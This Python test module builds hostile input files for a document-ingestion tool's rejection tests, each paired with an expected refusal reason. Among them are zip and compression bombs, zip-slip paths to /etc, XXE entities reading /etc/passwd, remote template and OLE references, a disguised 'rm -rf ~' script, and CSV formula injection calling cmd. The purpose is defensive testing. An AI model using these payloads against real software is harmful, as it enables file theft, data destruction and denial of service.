"""Files made to harm whoever reads them, each with words of the reason for which it must be refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import docx

from tests.harness import pdfs
from tests.harness.pdfs import Sheet

WORDS = "The commission counted the votes in every station and nobody disturbed it."


@dataclass(frozen=True)
class Hostile:
    """`make` writes the file into a folder and gives its path."""

    title: str
    reason: str
    make: Callable[[Path], Path]


def every() -> list[Hostile]:
    return [*_zips(), *_pdfs(), *_pages(), *_disguises(), *_texts(), *_tables()]


def _of(title: str, reason: str, name: str, content: Callable[[], bytes]) -> Hostile:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content())
        return path

    return Hostile(title, reason, make)


# --- DOCX -------------------------------------------------------------------------------------------------------------


def honest_docx() -> bytes:
    made = docx.Document()
    made.add_heading("The count", 1)
    made.add_paragraph(WORDS)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def altered(
    replaced: dict[str, bytes | None] | None = None,
    added: dict[str, bytes] | None = None,
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """The honest document with parts replaced (None: left out) and added."""
    replaced = replaced or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(honest_docx())) as source, zipfile.ZipFile(out, "w", method) as target:
        for name in source.namelist():
            content = replaced.get(name, source.read(name))
            if content is not None:
                target.writestr(name, content)
        for name, content in (added or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _document_xml(head: bytes, body: bytes) -> dict[str, bytes | None]:
    namespace = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    xml = (
        b'<?xml version="1.0"?>' + head + b"<w:document " + namespace + b"><w:body>" + body + b"</w:body></w:document>"
    )
    return {"word/document.xml": xml}


def _text(words: bytes) -> bytes:
    return b"<w:p><w:r><w:t>" + words + b"</w:t></w:r></w:p>"


def _relation(kind: str, target: str) -> dict[str, bytes | None]:
    with zipfile.ZipFile(io.BytesIO(honest_docx())) as source:
        xml = source.read("word/_rels/document.xml.rels")
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    extra = f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": xml.replace(b"</Relationships>", extra.encode() + b"</Relationships>")}


def _twice() -> bytes:
    out = io.BytesIO(altered())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/DOCUMENT.xml")
        archive.writestr(info, b"<x/>")
    return out.getvalue().replace(b"word/DOCUMENT.xml", b"word/document.xml")


def _locked_zip() -> bytes:
    content = bytearray(altered())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def _lying_sizes() -> bytes:
    """The directory says that a part is small; what comes out of it is not."""
    content = bytearray(altered(_document_xml(b"", _text(b"A" * 3_000_000))))
    at = content.find(b"word/document.xml", content.find(b"PK\x01\x02"))
    struct.pack_into("<I", content, at - 46 + 24, 100)
    return bytes(content)


def _zips() -> Iterator[Hostile]:
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    laughs = b'<!DOCTYPE w [<!ENTITY l0 "lol">' + entities + b"]>"
    xxe = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    utf16 = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY x "y">]><w>&x;</w>'.encode("utf-16")
    deep = b"<w:sdt><w:sdtContent>" * 5_000 + _text(b"x") + b"</w:sdtContent></w:sdt>" * 5_000
    base = b"<w:p/>" * 100
    yield _of(
        "one part that swells", "swells", "a.docx", lambda: altered(added={"word/a.bin": bytes(150_000_000 // 5)})
    )
    yield _of(
        "many large parts",
        "unpacked it would be larger",
        "b.docx",
        lambda: altered(added={f"word/{n}.bin": bytes(11_000_000) for n in range(10)}),
    )
    yield _of("sizes that lie", "is damaged", "c.docx", _lying_sizes)
    yield _of(
        "ten thousand parts",
        "a document has a few dozen",
        "d.docx",
        lambda: altered(added={f"word/{n}": b"" for n in range(3_000)}),
    )
    yield _of("two parts of one name", "two parts of one name", "e.docx", _twice)
    yield _of(
        "a part outside", "would be written outside", "f.docx", lambda: altered(added={"../../etc/cron.d/x": b"x"})
    )
    yield _of(
        "a part by absolute path", "would be written outside", "g.docx", lambda: altered(added={"/etc/passwd": b"x"})
    )
    yield _of(
        "a file of the machine as entity", "DOCTYPE", "h.docx", lambda: altered(_document_xml(xxe, _text(b"&x;")))
    )
    yield _of("a billion laughs", "DOCTYPE", "i.docx", lambda: altered(_document_xml(laughs, _text(b"&l9;"))))
    yield _of("entities in another encoding", "not UTF-8", "j.docx", lambda: altered({"word/document.xml": utf16}))
    yield _of("macros", "holds macros", "k.docx", lambda: altered(added={"word/vbaProject.bin": b"x"}))
    yield _of("a control", "holds macros", "l.docx", lambda: altered(added={"word/activeX/activeX1.bin": b"x"}))
    yield _of(
        "a template from elsewhere",
        "brings in a part from elsewhere",
        "m.docx",
        lambda: altered(_relation("attachedTemplate", "http://192.0.2.1/x.dotm")),
    )
    yield _of(
        "an object from elsewhere",
        "brings in a part from elsewhere",
        "n.docx",
        lambda: altered(_relation("oleObject", "http://192.0.2.1/x.exe")),
    )
    yield _of(
        "a picture from elsewhere",
        "brings in a part from elsewhere",
        "o.docx",
        lambda: altered(_relation("image", "file:////192.0.2.1/share/x.png")),
    )
    yield _of("parts under a password", "protected by a password", "p.docx", _locked_zip)
    yield _of("half a document", "is damaged", "q.docx", lambda: honest_docx()[: len(honest_docx()) // 2])
    yield _of("no text part", "is damaged", "r.docx", lambda: altered({"word/document.xml": None}))
    yield _of(
        "another kind of package",
        "is damaged",
        "s.docx",
        lambda: altered(
            {"[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'}
        ),
    )
    yield _of("broken XML", "is damaged", "t.docx", lambda: altered({"word/document.xml": b"<w:document"}))
    yield _of("ten thousand levels", "is damaged", "u.docx", lambda: altered(_document_xml(b"", deep)))
    yield _of(
        "a text part without end",
        "its text part is larger",
        "v.docx",
        lambda: altered(_document_xml(b"", base * 52_000), method=zipfile.ZIP_STORED),
    )
    yield _of("pictures only", "holds no text", "w.docx", lambda: altered(_document_xml(b"", b"<w:p/>")))


# --- PDF --------------------------------------------------------------------------------------------------------------


def honest_pdf() -> bytes:
    return pdfs.document(Sheet().write(40, 700, WORDS))


def _many_pages() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    kids = b" ".join([b"3 0 R"] * 20_000)
    return pdfs.assemble(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 20000 /Kids [" + kids + b"] >>", page]
    )


def _ring_of_pages() -> bytes:
    return pdfs.assemble(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 5 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>"]
    )


def _nested_streams() -> bytes:
    """A gigabyte of nothing under ten layers of compression."""
    content = bytes(30_000_000)
    for _ in range(10):
        content = zlib.compress(content, 9)
    filters = "/FlateDecode " * 10
    stream = f"<< /Filter [{filters}] /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return pdfs.assemble(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", page, stream]
    )


def _nameless_letters() -> bytes:
    """A font that draws letters without saying which they are."""
    sheet = Sheet()
    sheet.marks.append("BT /F1 10 Tf 1 0 0 1 40 700 Tm <" + "F1F2F3F4F5F6" * 20 + "> Tj ET")
    content = pdfs.document(sheet)
    codes = " ".join(f"/x{code}" for code in range(240, 251))
    odd = (
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 0] /CharProcs << >> /FirstChar 240"
        f" /LastChar 250 /Widths [{'6 ' * 11}] /Encoding << /Type /Encoding /Differences [240 {codes}] >> >>"
    ).encode()
    return content.replace(b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>", odd)


def slow_pdf(letters: int = 400_000) -> bytes:
    """So many letters, each drawn by itself in a place of its own."""
    sheet = Sheet()
    sheet.marks.append(
        "BT /F1 1 Tf " + "".join(f"1 0 0 1 {n % 590} {n % 839} Tm (a) Tj " for n in range(letters)) + "ET"
    )
    return pdfs.document(sheet)


def _pdfs() -> Iterator[Hostile]:
    yield _of("twenty thousand pages", "has 20,000 pages; at most 1,000", "a.pdf", _many_pages)
    yield _of("under a password", "protected by a password", "b.pdf", lambda: pdfs.locked(honest_pdf(), "siri"))
    yield _of("half a PDF", "is damaged", "c.pdf", lambda: honest_pdf()[:300])
    yield _of("pages in a ring", "is damaged", "d.pdf", _ring_of_pages)
    yield _of("streams in streams", "holds no text", "e.pdf", _nested_streams)
    yield _of("a scan", "scanned pictures", "f.pdf", lambda: pdfs.document(Sheet().picture()))
    yield _of(
        "no pages",
        "is damaged",
        "h.pdf",
        lambda: pdfs.assemble([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 0 /Kids [] >>"]),
    )
    yield _of("noise", "is damaged", "i.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 200)
    yield _of("letters without a name", "letters cannot be told", "j.pdf", _nameless_letters)


# --- web pages --------------------------------------------------------------------------------------------------------


def _pages() -> Iterator[Hostile]:
    entity = b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>'
    yield _of("entities of its own", "DOCTYPE", "a.html", lambda: entity)
    yield _of("a hundred thousand levels", "nested too deep", "b.html", lambda: b"<div>" * 100_000 + WORDS.encode())
    yield _of(
        "scripts only",
        "holds no text",
        "c.html",
        lambda: b"<html><body><script>document.write('x')</script></body></html>",
    )
    yield _of(
        "an encoding that it does not name",
        "in which encoding",
        "d.html",
        lambda: "<p>Côte d'Ivoire</p>".encode("latin-1"),
    )
    yield _of(
        "a page without end",
        "at most 50,000,000 are read",
        "e.html",
        lambda: b"<p>" + bytes(50_000_001).replace(b"\0", b"a"),
    )
    yield _of("more text than a book", "at most 2,000,000 are read", "f.htm", lambda: b"<p>" + WORDS.encode() * 30_000)


# --- files that are not what their name says --------------------------------------------------------------------------


def _disguises() -> Iterator[Hostile]:
    for suffix in ("pdf", "docx", "html", "txt", "md", "csv"):
        reason = "the file is empty" if suffix in ("pdf", "docx", "html") else "holds no text"
        yield _of(f"nothing in a .{suffix}", reason, f"empty.{suffix}", lambda: b"")
    yield _of("a DOCX named PDF", "is not what its name says: it is a zip or a DOCX", "x1.pdf", honest_docx)
    yield _of("a PDF named DOCX", "is not what its name says: it is a PDF", "x2.docx", honest_pdf)
    yield _of("a PDF named HTML", "is not what its name says: it is a PDF", "x3.html", honest_pdf)
    yield _of("a program named PDF", "it is a program", "x4.pdf", lambda: b"MZ\x90\0" + bytes(200))
    yield _of("a script named HTML", "it is a program", "x5.html", lambda: b"#!/bin/sh\nrm -rf ~\n")
    yield _of("a picture named DOCX", "it is a picture", "x6.docx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(50))
    yield _of(
        "an old Word file named DOCX", "old Word or Excel file", "x7.docx", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)
    )
    yield _of("PDF and zip at once", "two kinds of file at once", "x8.pdf", lambda: honest_pdf() + honest_docx())
    yield _of(
        "web page and PDF at once",
        "two kinds of file at once",
        "x9.html",
        lambda: b"<p>Vote.</p><!--" + honest_pdf() + b"-->",
    )
    yield _of("an old Word file", "save it as .docx", "x10.doc", lambda: b"\xd0\xcf\x11\xe0")
    yield _of("a document with macros", "it may hold macros", "x11.docm", honest_docx)
    yield Hostile("a folder named PDF", "a folder or a device", lambda folder: _folder(folder / "x12.pdf"))


def _folder(path: Path) -> Path:
    path.mkdir()
    return path


# --- texts and tables -------------------------------------------------------------------------------------------------


def _endless_line(folder: Path) -> Path:
    path = folder / "line.txt"
    with path.open("wb") as file:
        file.truncate(200_000_000)
    return path


def _texts() -> Iterator[Hostile]:
    yield Hostile("a line of 200 million bytes", "larger than 2,000,000 bytes", _endless_line)
    yield _of("a line of a million letters", "a line of it has 1,000,000 characters", "a.txt", lambda: b"a" * 1_000_000)
    yield _of("zero bytes", "not plain text", "b.txt", lambda: b"Vote.\0\0")
    yield _of("another encoding", "not UTF-8", "c.txt", lambda: "Côte".encode("latin-1"))
    yield _of("a card that never ends", "never closed", "d.md", lambda: b"+++\nid = 1\n")


def _tables() -> Iterator[Hostile]:
    yield _of(
        "a formula", "row 2, column 'Phone' holds a formula", "a.csv", lambda: b"Name,Phone\nX,=cmd|'/c calc'!A1\n"
    )
    yield _of("a formula by sign", "holds a formula", "b.csv", lambda: b"Name,Phone\n@SUM(A1),1\n")
    yield _of("a formula by plus", "holds a formula", "c.csv", lambda: b"Name,Phone\nX,+1+cmd|'/c calc'!A0\n")
    yield _of("a formula among the names", "row 1", "d.csv", lambda: b'Name,"=HYPERLINK(1)"\nX,1\n')
    yield _of("a row too short", "row 3 has 1 cells", "e.csv", lambda: b"Name,Phone\nX,1\nY\n")
    yield _of("a quotation mark that never closes", "no proper CSV", "f.csv", lambda: b'Name,Phone\n"X,1\nY,2\n')
    yield _of("columns of one name", "each differently", "g.csv", lambda: b"Name,Name\nX,1\n")
    yield _of("too many rows", "more than 50,000 rows", "h.csv", lambda: b"Name,Phone\n" + b"X,1\n" * 50_001)
    yield _of("a cell without end", "2,001 characters", "i.csv", lambda: b"Name,Phone\nX," + b"1" * 2_001 + b"\n")
    yield _of(
        "too many columns", "has 101 columns", "j.csv", lambda: ",".join(f"c{n}" for n in range(101)).encode() + b"\n"
    )
